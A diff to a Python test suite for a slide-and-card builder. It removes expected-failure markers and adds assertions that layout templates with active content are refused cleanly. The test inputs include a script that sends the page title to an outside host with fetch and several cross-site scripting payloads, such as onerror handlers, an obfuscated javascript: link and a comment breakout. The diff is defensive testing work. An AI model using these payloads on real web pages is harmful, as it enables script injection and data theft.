@@ -144,8 +144,6 @@ def test_line_tabulations_from_powerpoint_become_spaces_and_build(run, tmp_path)
 # --- odd content: bugs ---------------------------------------------------------------------------------
 
 
-@pytest.mark.xfail(strict=True, reason="python-pptx refuses control characters in core properties: "
-                   "slides/reproducible.set_properties writes the raw title; check says OK, build tracebacks")
 @pytest.mark.parametrize("title", ["a\\x1bb", "a\\0b", "a\\ufffeb"])
 def test_control_characters_in_the_title_are_no_traceback(run, tmp_path, title):
     path = content(tmp_path / "c", f'title: "{title}"\nmodels: [{{name: A, strengths: [s]}}]\n')
@@ -165,8 +163,6 @@ def test_lone_surrogate_is_refused_or_replaced(tmp_path):
         workshop.models[0].strengths[0].plain.encode("utf-8")
 
 
-@pytest.mark.xfail(strict=True, reason="the .pptx core property 'title'/'author' is limited to 255 characters "
-                   "(python-pptx ValueError): a long title that fits its slide tracebacks in set_properties")
 @pytest.mark.parametrize("key, value", [("title", "Short words here " * 17),
                                         ("authors", [f"Author Number{i}" for i in range(30)])])
 def test_long_title_or_authors_build_or_fail_cleanly(run, tmp_path, key, value):
@@ -177,6 +173,12 @@ def test_long_title_or_authors_build_or_fail_cleanly(run, tmp_path, key, value):
     path = content(tmp_path / "c", text)
     result = run("build", path, "--only", "slides", "-o", tmp_path / "out")
     assert no_traceback(result) and result.exit_code in (0, 1), repr(result.exception)
+    if result.exit_code == 0:  # the core property is cut to 255 characters, ending with an ellipsis
+        from pptx import Presentation
+
+        core = Presentation(str(tmp_path / "out" / "w.pptx")).core_properties
+        cut = core.title if key == "title" else core.author
+        assert len(cut) <= 255 and cut.endswith("\u2026")
 
 
 def test_a_run_of_asterisks_is_no_recursion_error():
@@ -293,17 +295,14 @@ def test_symlinks_in_templates_leading_out_are_refused(run, tmp_path, what):
     assert not out.exists() or b"OUTSIDE-SECRET-TOKEN" not in all_output_text(out)
 
 
-@pytest.mark.xfail(strict=True, reason="a layout's own cards.css without the default's side rules makes "
-                   "cards.fit.fit / cards.pdf.measure raise KeyError or ValueError (traceback) instead of a message")
 def test_a_replacement_stylesheet_without_the_side_rules_is_one_message(run, tmp_path):
     folder = layout_folder(tmp_path, "plain", templates={"cards.css": "body { color: #333 }\n"})
     path = content(tmp_path / "c", 'title: T\nmodels: [{name: A, strengths: [s]}, {name: B, strengths: [t]}]\n')
     result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", tmp_path / "out")
     assert no_traceback(result) and result.exit_code in (0, 1), repr(result.exception)
+    assert result.exit_code == 0 or "as one A6 page" in result.output, result.output
 
 
-@pytest.mark.xfail(strict=True, reason="a layout's templates may put <script> (and links the browser follows) "
-                   "into the HTML preview: WeasyPrint ignores scripts, so the fetcher never sees them")
 def test_a_layout_cannot_put_scripts_into_the_preview(run, tmp_path):
     block = ('{% extends "default/card-models-front.html.j2" %}{% block band %}'
              '<script>fetch("https://example.org/?" + document.title)</script>{% endblock %}')
@@ -313,6 +312,19 @@ def test_a_layout_cannot_put_scripts_into_the_preview(run, tmp_path):
     result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
     assert no_traceback(result)
     assert result.exit_code == 1 or "<script" not in (out / "w-cards.html").read_text(encoding="utf-8")
+    assert "<script> in card-models-front.html.j2" in result.output and "'scripted'" in result.output
+
+
+@pytest.mark.parametrize("markup", ['<img src="x.png" onerror="alert(1)">', '<a href=" java\tscript:alert(1)">x</a>',
+                                    '<iframe src="https://example.org/"></iframe>', '<!--><script>alert(1)</script>-->',
+                                    '<svg><style><img src=x onerror=alert(1)></style></svg>'])
+def test_a_layout_cannot_put_active_markup_into_the_pages(run, tmp_path, markup):
+    block = '{% extends "default/cards.html.j2" %}{% block head %}' + markup + '{% endblock %}'
+    folder = layout_folder(tmp_path, "active", templates={"cards.html.j2": block})
+    path = content(tmp_path / "c", ONE_MODEL)
+    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", tmp_path / "out")
+    assert clean_failure(result), repr(result.exception)
+    assert "layout templates may not contain scripts" in result.output and "cards.html.j2" in result.output
 
 
 def test_extends_with_an_absolute_path_is_refused(tmp_path):
@@ -323,8 +335,6 @@ def test_extends_with_an_absolute_path_is_refused(tmp_path):
     assert "extends" in str(caught.value)
 
 
-@pytest.mark.xfail(strict=True, reason="slides.template.choose_layouts indexes all_layouts[0]: a master "
-                   "without slide layouts raises IndexError (traceback) instead of a message")
 def test_a_template_without_slide_layouts_is_one_message(run, tmp_path):
     from pptx import Presentation
     from pptx.oxml.ns import qn
@@ -340,6 +350,7 @@ def test_a_template_without_slide_layouts_is_one_message(run, tmp_path):
     path = content(tmp_path / "c", ONE_MODEL)
     result = run("build", path, "--layout", folder, "--only", "slides", "-o", tmp_path / "out")
     assert clean_failure(result), repr(result.exception)
+    assert "t.pptx" in result.output and "no slide layouts" in result.output, result.output
 
 
 def test_a_zip_bomb_template_is_refused_when_the_layout_loads(tmp_path):
